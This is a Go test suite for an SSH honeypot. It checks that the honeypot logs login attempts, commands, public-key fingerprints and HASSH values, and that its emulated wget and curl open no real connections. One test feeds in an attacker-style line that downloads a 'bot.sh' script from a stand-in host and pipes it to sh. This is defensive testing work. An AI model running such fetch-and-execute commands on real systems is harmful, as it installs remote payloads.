package ssh

import (
	"bufio"
	"bytes"
	"crypto/md5"
	"encoding/base64"
	"encoding/binary"
	"encoding/hex"
	"io"
	"net"
	"os"
	"os/exec"
	"path/filepath"
	"strconv"
	"strings"
	"sync"
	"sync/atomic"
	"testing"

	"github.com/google/go-cmp/cmp"

	"github.com/decnet/decnet/internal/services"
	"github.com/decnet/decnet/internal/testenv"
)

// opensshArgs returns ssh options that ignore the user's configuration and
// known hosts.
func opensshArgs(port string, extra ...string) []string {
	args := []string{
		"-F", "/dev/null", "-p", port,
		"-o", "StrictHostKeyChecking=no",
		"-o", "UserKnownHostsFile=/dev/null",
		"-o", "GlobalKnownHostsFile=/dev/null",
		"-o", "LogLevel=ERROR",
		"-o", "ConnectTimeout=10",
		"-o", "ServerAliveInterval=0",
	}
	return append(args, extra...)
}

// runSSHPass runs the real OpenSSH client with a password fed by sshpass.
func runSSHPass(t *testing.T, password string, stdin string, args ...string) (string, error) {
	t.Helper()
	sshpass := testenv.RequireTool(t, "sshpass", "sshpass")
	sshBin := testenv.RequireTool(t, "ssh", "openssh-client")
	full := append([]string{"-p", password, sshBin}, args...)
	cmd := exec.Command(sshpass, full...)
	cmd.Stdin = strings.NewReader(stdin)
	var out bytes.Buffer
	cmd.Stdout = &out
	cmd.Stderr = &out
	err := cmd.Run()
	return out.String(), err
}

// passwordArgs returns ssh arguments for a password login; extra holds
// options (starting with "-") and then the remote command.
func passwordArgs(port, user string, extra ...string) []string {
	args := opensshArgs(port,
		"-o", "PreferredAuthentications=password",
		"-o", "PubkeyAuthentication=no",
		"-o", "NumberOfPasswordPrompts=1")
	var command []string
	for _, e := range extra {
		if strings.HasPrefix(e, "-") && len(command) == 0 {
			args = append(args, e)
		} else {
			command = append(command, e)
		}
	}
	args = append(args, user+"@127.0.0.1")
	return append(args, command...)
}

// makeRoot creates a small decky root directory.
func makeRoot(t testing.TB) string {
	t.Helper()
	dir := t.TempDir()
	for _, d := range []string{"root", "tmp", "etc", "home/admin"} {
		if err := os.MkdirAll(filepath.Join(dir, d), 0o755); err != nil {
			t.Fatal(err)
		}
	}
	if err := os.WriteFile(filepath.Join(dir, "etc/passwd"), []byte("root:x:0:0:root:/root:/bin/bash\n"), 0o644); err != nil {
		t.Fatal(err)
	}
	return dir
}

func TestOpenSSHPasswordPolicy(t *testing.T) {
	tests := []struct {
		name     string
		policy   Policy
		user     string
		password string
		wantOK   bool
	}{
		{"weak list accepts", WeakPasswords{"root": {"toor"}}, "root", "toor", true},
		{"weak list rejects", WeakPasswords{"root": {"toor"}}, "root", "hunter2", false},
		{"wildcard user", WeakPasswords{"*": {"123456"}}, "admin", "123456", true},
		{"reject all", RejectAll, "root", "toor", false},
		{"first attempt wins", NthAttempt{N: 1}, "oracle", "x", true},
	}
	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) {
			ts := startServer(t, Config{Policy: tc.policy})
			out, err := runSSHPass(t, tc.password, "", passwordArgs(ts.portString(), tc.user, "whoami")...)
			if (err == nil) != tc.wantOK {
				t.Fatalf("ssh %s:%s: err = %v (output %q), want success %v", tc.user, tc.password, err, out, tc.wantOK)
			}
			if tc.wantOK && strings.TrimSpace(out) != tc.user {
				t.Errorf("whoami output = %q, want %q", out, tc.user)
			}

			evs := ts.rec.waitFor(t, "auth_attempt", countKind(services.KindAuthAttempt, 1))
			var auth services.Event
			for _, e := range evs {
				if e.Kind == services.KindAuthAttempt {
					auth = e
					break
				}
			}
			want := map[string]string{
				services.FieldUsername:        tc.user,
				services.FieldSecretKind:      "plaintext",
				services.FieldSecretPrintable: tc.password,
				services.FieldSecretB64:       base64.StdEncoding.EncodeToString([]byte(tc.password)),
				services.FieldOutcome:         outcome(tc.wantOK),
			}
			if diff := cmp.Diff(want, auth.Fields); diff != "" {
				t.Errorf("auth_attempt fields (-want +got):\n%s", diff)
			}
			if auth.Service != "ssh" || auth.Decky != "decky-01" || auth.SrcIP != "127.0.0.1" || auth.DstPort != ts.port {
				t.Errorf("auth_attempt header = %+v, want service ssh, decky decky-01, src 127.0.0.1, dst port %d", auth, ts.port)
			}
		})
	}
}

func TestOpenSSHNthAttemptAcrossConnections(t *testing.T) {
	ts := startServer(t, Config{Policy: NthAttempt{N: 2, PerSource: true}})
	args := passwordArgs(ts.portString(), "root", "true")

	if out, err := runSSHPass(t, "first", "", args...); err == nil {
		t.Fatalf("first login succeeded (output %q), want failure", out)
	}
	if out, err := runSSHPass(t, "second", "", args...); err != nil {
		t.Fatalf("second login: %v (output %q), want success", err, out)
	}
}

// noDialProbe is a listener the emulated wget and curl are pointed at; it
// counts the connections it gets, which must stay zero.
type noDialProbe struct {
	l        net.Listener
	accepted atomic.Int32
	wg       sync.WaitGroup
}

func newNoDialProbe(t *testing.T) *noDialProbe {
	l, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		t.Fatalf("listen: %v", err)
	}
	p := &noDialProbe{l: l}
	p.wg.Add(1)
	go func() {
		defer p.wg.Done()
		for {
			c, err := l.Accept()
			if err != nil {
				return
			}
			p.accepted.Add(1)
			c.Close()
		}
	}()
	t.Cleanup(func() { l.Close(); p.wg.Wait() })
	return p
}

// testNetSockets lists the sockets of this host whose remote address is in
// 192.0.2.0/24, read from /proc/net/tcp.
func testNetSockets(t *testing.T) []string {
	data, err := os.ReadFile("/proc/net/tcp")
	if err != nil {
		t.Skipf("read /proc/net/tcp: %v", err)
	}
	var found []string
	sc := bufio.NewScanner(bytes.NewReader(data))
	for sc.Scan() {
		f := strings.Fields(sc.Text())
		if len(f) < 3 || len(f[2]) != 13 {
			continue
		}
		// Addresses are little-endian hex: 192.0.2.x reads "xx0200C0".
		if strings.HasSuffix(strings.ToUpper(f[2][:8]), "0200C0") {
			found = append(found, f[2])
		}
	}
	return found
}

func TestOpenSSHExecCommands(t *testing.T) {
	ts := startServer(t, Config{Policy: WeakPasswords{"root": {"toor"}}, Root: makeRoot(t)})
	probe := newNoDialProbe(t)
	probeURL := "http://" + probe.l.Addr().String() + "/x.sh"

	script := "uname -a; id; wget http://192.0.2.10/bot.sh -O /tmp/bot.sh; curl -s " + probeURL + " | sh; cd /tmp && pwd; nosuchcmd"
	out, err := runSSHPass(t, "toor", "", passwordArgs(ts.portString(), "root", script)...)
	if err == nil {
		t.Errorf("exec ended with status 0, want 127 from nosuchcmd (output %q)", out)
	}
	for _, want := range []string{
		"Linux srv-alpha-12 ",
		"uid=0(root) gid=0(root) groups=0(root)",
		"192.0.2.10",
		"/tmp\n",
		"bash: nosuchcmd: command not found",
	} {
		if !strings.Contains(out, want) {
			t.Errorf("exec output %q lacks %q", out, want)
		}
	}

	evs := ts.rec.waitFor(t, "7 command events", countKind(services.KindCommand, 7))
	type cmdEvent struct{ Command, Cwd, URL string }
	var got []cmdEvent
	for _, e := range evs {
		if e.Kind == services.KindCommand {
			got = append(got, cmdEvent{e.Fields[services.FieldCommand], e.Fields[services.FieldCwd], e.Fields[services.FieldURL]})
		}
	}
	want := []cmdEvent{
		{"uname -a", "/root", ""},
		{"id", "/root", ""},
		{"wget http://192.0.2.10/bot.sh -O /tmp/bot.sh", "/root", "http://192.0.2.10/bot.sh"},
		{"curl -s " + probeURL, "/root", probeURL},
		{"sh", "/root", ""},
		{"cd /tmp", "/root", ""},
		{"pwd", "/tmp", ""},
		{"nosuchcmd", "/tmp", ""},
	}
	if diff := cmp.Diff(want, got); diff != "" {
		t.Errorf("command events (-want +got):\n%s", diff)
	}

	if n := probe.accepted.Load(); n != 0 {
		t.Errorf("curl emulation opened %d connections to %s, want 0", n, probe.l.Addr())
	}
	if socks := testNetSockets(t); len(socks) != 0 {
		t.Errorf("sockets to 192.0.2.0/24 exist after wget: %v", socks)
	}
}

func TestOpenSSHInteractivePTY(t *testing.T) {
	ts := startServer(t, Config{Policy: WeakPasswords{"root": {"toor"}}, Root: makeRoot(t)})
	input := "pwd\ncd /tmp\necho hello   world\nexport X=42; echo $X\ncd -\nhistory\nexit\n"
	out, err := runSSHPass(t, "toor", input, passwordArgs(ts.portString(), "root", "-tt")...)
	if err != nil {
		t.Fatalf("interactive ssh: %v (output %q)", err, out)
	}
	for _, want := range []string{
		"root@srv-alpha-12:~# ",
		"root@srv-alpha-12:/tmp# ",
		"hello world\r\n",
		"42\r\n",
		"    3  echo hello   world\r\n",
		"logout",
	} {
		if !strings.Contains(out, want) {
			t.Errorf("PTY output %q lacks %q", out, want)
		}
	}

	evs := ts.rec.waitFor(t, "disconnect", countKind(services.KindDisconnect, 1))
	var cmds []string
	for _, e := range evs {
		if e.Kind == services.KindCommand {
			cmds = append(cmds, e.Fields[services.FieldCommand])
		}
	}
	want := []string{"pwd", "cd /tmp", "echo hello   world", "export X=42", "echo $X", "cd -", "history", "exit"}
	if diff := cmp.Diff(want, cmds); diff != "" {
		t.Errorf("PTY command events (-want +got):\n%s", diff)
	}
}

func TestOpenSSHPublicKeyAttempt(t *testing.T) {
	keygen := testenv.RequireTool(t, "ssh-keygen", "openssh-client")
	sshBin := testenv.RequireTool(t, "ssh", "openssh-client")
	ts := startServer(t, Config{Policy: WeakPasswords{"root": {"toor"}}})

	tests := []struct {
		keyType  string
		bits     string
		wantType string
	}{
		{"ed25519", "", "ssh-ed25519"},
		{"ecdsa", "256", "ecdsa-sha2-nistp256"},
		{"rsa", "2048", "ssh-rsa"},
	}
	for _, tc := range tests {
		t.Run(tc.keyType, func(t *testing.T) {
			key := filepath.Join(t.TempDir(), "id_"+tc.keyType)
			genArgs := []string{"-q", "-t", tc.keyType, "-N", "", "-f", key}
			if tc.bits != "" {
				genArgs = append(genArgs, "-b", tc.bits)
			}
			if out, err := exec.Command(keygen, genArgs...).CombinedOutput(); err != nil {
				t.Fatalf("ssh-keygen: %v: %s", err, out)
			}
			listing, err := exec.Command(keygen, "-lf", key+".pub").Output()
			if err != nil {
				t.Fatalf("ssh-keygen -lf: %v", err)
			}
			wantFP := strings.Fields(string(listing))[1]

			before := len(ts.rec.ofKind(services.KindAuthAttempt))
			args := opensshArgs(ts.portString(),
				"-i", key, "-o", "IdentitiesOnly=yes", "-o", "BatchMode=yes",
				"-o", "PreferredAuthentications=publickey", "-l", "deploy", "127.0.0.1", "true")
			if out, err := exec.Command(sshBin, args...).CombinedOutput(); err == nil {
				t.Fatalf("public-key login succeeded (output %q), want failure", out)
			}

			evs := ts.rec.waitFor(t, "publickey auth_attempt", countKind(services.KindAuthAttempt, before+1))
			var auth services.Event
			for _, e := range evs {
				if e.Kind == services.KindAuthAttempt && e.Fields[services.FieldKeyFingerprint] == wantFP {
					auth = e
				}
			}
			if auth.Fields == nil {
				t.Fatalf("no auth_attempt with fingerprint %s among %+v", wantFP, evs)
			}
			pub, err := os.ReadFile(key + ".pub")
			if err != nil {
				t.Fatal(err)
			}
			blob, err := base64.StdEncoding.DecodeString(strings.Fields(string(pub))[1])
			if err != nil {
				t.Fatal(err)
			}
			want := map[string]string{
				services.FieldUsername:        "deploy",
				services.FieldSecretKind:      "publickey",
				services.FieldSecretPrintable: tc.wantType + " " + strings.Fields(string(pub))[1],
				services.FieldSecretB64:       base64.StdEncoding.EncodeToString(blob),
				services.FieldKeyType:         tc.wantType,
				services.FieldKeyFingerprint:  wantFP,
				services.FieldOutcome:         "failure",
			}
			if diff := cmp.Diff(want, auth.Fields); diff != "" {
				t.Errorf("publickey auth_attempt fields (-want +got):\n%s", diff)
			}
		})
	}
}

// kexProxy forwards one TCP connection to the server and keeps the first
// 64 KiB the client sent.
type kexProxy struct {
	l  net.Listener
	mu sync.Mutex
	cs []byte
	wg sync.WaitGroup
}

func newKexProxy(t *testing.T, target string) *kexProxy {
	l, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		t.Fatalf("listen: %v", err)
	}
	p := &kexProxy{l: l}
	p.wg.Add(1)
	go func() {
		defer p.wg.Done()
		client, err := l.Accept()
		if err != nil {
			return
		}
		defer client.Close()
		server, err := net.Dial("tcp", target)
		if err != nil {
			return
		}
		defer server.Close()

		var inner sync.WaitGroup
		inner.Add(1)
		go func() {
			defer inner.Done()
			io.Copy(client, server)
			client.Close()
		}()
		buf := make([]byte, 32<<10)
		for {
			n, err := client.Read(buf)
			if n > 0 {
				p.mu.Lock()
				if len(p.cs) < 64<<10 {
					p.cs = append(p.cs, buf[:n]...)
				}
				p.mu.Unlock()
				server.Write(buf[:n])
			}
			if err != nil {
				server.Close()
				break
			}
		}
		inner.Wait()
	}()
	t.Cleanup(func() { l.Close(); p.wg.Wait() })
	return p
}

// independentHASSH computes HASSH from captured client bytes without the
// package's parser: skip the identification line, read the first packet,
// walk the name-lists.
func independentHASSH(t *testing.T, captured []byte) (version, hash string) {
	t.Helper()
	nl := bytes.Index(captured, []byte("\n"))
	if nl < 0 {
		t.Fatalf("no identification line in %q", captured)
	}
	version = strings.TrimRight(string(captured[:nl]), "\r")
	pkt := captured[nl+1:]
	if len(pkt) < 6 {
		t.Fatalf("no packet after identification line")
	}
	plen := binary.BigEndian.Uint32(pkt)
	pad := int(pkt[4])
	payload := pkt[5 : 4+int(plen)-pad]
	if payload[0] != 20 {
		t.Fatalf("first client packet is message %d, want KEXINIT (20)", payload[0])
	}
	off := 17
	var lists []string
	for i := 0; i < 10; i++ {
		n := int(binary.BigEndian.Uint32(payload[off:]))
		lists = append(lists, string(payload[off+4:off+4+n]))
		off += 4 + n
	}
	// kex, encryption c2s, MAC c2s, compression c2s.
	sum := md5.Sum([]byte(lists[0] + ";" + lists[2] + ";" + lists[4] + ";" + lists[6]))
	return version, hex.EncodeToString(sum[:])
}

func TestOpenSSHHASSHMatchesWire(t *testing.T) {
	ts := startServer(t, Config{Policy: WeakPasswords{"root": {"toor"}}})
	proxy := newKexProxy(t, ts.addr)
	proxyPort := proxy.l.Addr().(*net.TCPAddr).Port

	out, err := runSSHPass(t, "toor", "", passwordArgs(strconv.Itoa(proxyPort), "root", "true")...)
	if err != nil {
		t.Fatalf("ssh through proxy: %v (output %q)", err, out)
	}
	evs := ts.rec.waitFor(t, "connect", countKind(services.KindConnect, 1))

	proxy.mu.Lock()
	captured := append([]byte(nil), proxy.cs...)
	proxy.mu.Unlock()
	wantVersion, wantHash := independentHASSH(t, captured)

	var connect services.Event
	for _, e := range evs {
		if e.Kind == services.KindConnect {
			connect = e
		}
	}
	if got := connect.Fields[services.FieldHASSH]; got != wantHash {
		t.Errorf("connect hassh = %q, want %q (from the captured KEXINIT)", got, wantHash)
	}
	if got := connect.Fields[services.FieldSSHClientVersion]; got != wantVersion {
		t.Errorf("connect ssh_client_version = %q, want %q", got, wantVersion)
	}
	if !strings.HasPrefix(wantVersion, "SSH-2.0-OpenSSH_") {
		t.Errorf("captured client version %q is not OpenSSH's", wantVersion)
	}
}

func TestOpenSSHSeesDistroBanner(t *testing.T) {
	sshBin := testenv.RequireTool(t, "ssh", "openssh-client")
	for _, distro := range []string{"debian", "rocky9", "centos7"} {
		t.Run(distro, func(t *testing.T) {
			ts := startServer(t, Config{Distro: distro})
			// -v prints "Remote protocol version 2.0, remote software version X".
			args := opensshArgs(ts.portString(), "-v", "-o", "BatchMode=yes", "-o", "PreferredAuthentications=none", "root@127.0.0.1", "true")
			out, _ := exec.Command(sshBin, args...).CombinedOutput()
			want := "remote software version " + VersionForDistro(distro)
			if !strings.Contains(string(out), want) {
				t.Errorf("ssh -v output lacks %q:\n%s", want, out)
			}
		})
	}
}
